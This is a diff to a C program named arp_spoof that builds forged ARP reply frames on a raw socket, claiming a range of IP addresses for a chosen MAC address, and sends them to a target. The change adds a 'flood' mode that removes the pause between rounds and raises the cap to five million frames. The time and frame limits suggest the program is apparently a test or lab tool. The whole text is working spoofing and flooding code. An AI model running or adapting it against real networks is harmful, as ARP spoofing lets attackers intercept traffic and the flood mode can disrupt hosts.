@@ -5,13 +5,16 @@
  * that address, with TPA and THA as its target fields (the frame goes
  * to THA: ff:ff:ff:ff:ff:ff is broadcast) and SHA as its sender hardware
  * address ("self": the interface's own, which the frame comes from), in
- * rounds, for SECS seconds (at most 10) and at most a million frames.
- * Prints "ready" once the socket is open.
+ * rounds 0.2 ms apart, for SECS seconds (at most 10) and at most a
+ * million frames.  With a last argument "flood": no pause between
+ * rounds, and at most five million frames.  Prints "ready" once the
+ * socket is open.
  */
 #include <arpa/inet.h>
 #include <linux/if_packet.h>
 #include <net/ethernet.h>
 #include <net/if.h>
+#include <stdbool.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -53,9 +56,11 @@ int main(int argc, char **argv)
 	uint8_t tha[6], sha[6], self[6];
 	struct ifreq ifr = { 0 };
 
-	if (argc != 8 || inet_pton(AF_INET, argv[3], &first) != 1 || inet_pton(AF_INET, argv[4], &last) != 1 ||
+	bool flood = argc == 9 && strcmp(argv[8], "flood") == 0;
+
+	if ((argc != 8 && !flood) || inet_pton(AF_INET, argv[3], &first) != 1 || inet_pton(AF_INET, argv[4], &last) != 1 ||
 	    inet_pton(AF_INET, argv[5], &tpa) != 1 || mac(argv[6], tha) != 0) {
-		fprintf(stderr, "usage: arp_spoof IFACE SECS FIRST LAST TPA THA SHA|self\n");
+		fprintf(stderr, "usage: arp_spoof IFACE SECS FIRST LAST TPA THA SHA|self [flood]\n");
 		return 2;
 	}
 	double secs = atof(argv[2]);
@@ -78,8 +83,8 @@ int main(int argc, char **argv)
 	printf("ready\n");
 	fflush(stdout);
 	double end = now() + secs;
-	long sent = 0;
-	while (now() < end && sent < 1000000) {
+	long sent = 0, most = flood ? 5000000 : 1000000;
+	while (now() < end && sent < most) {
 		for (uint32_t a = ntohl(first.s_addr); a <= ntohl(last.s_addr); a++, sent++) {
 			struct arp_pkt p = { htons(1), htons(ETH_P_IP), 6, 4, htons(2), { 0 }, { 0 }, { 0 }, { 0 } };
 			uint32_t spa = htonl(a);
@@ -90,7 +95,8 @@ int main(int argc, char **argv)
 			(void)sendto(fd, &p, sizeof p, 0, (struct sockaddr *)&to, sizeof to);
 		}
 		struct timespec pause = { 0, 200000 };	/* 0.2 ms between rounds */
-		nanosleep(&pause, NULL);
+		if (!flood)
+			nanosleep(&pause, NULL);
 	}
 	close(fd);
 	return 0;
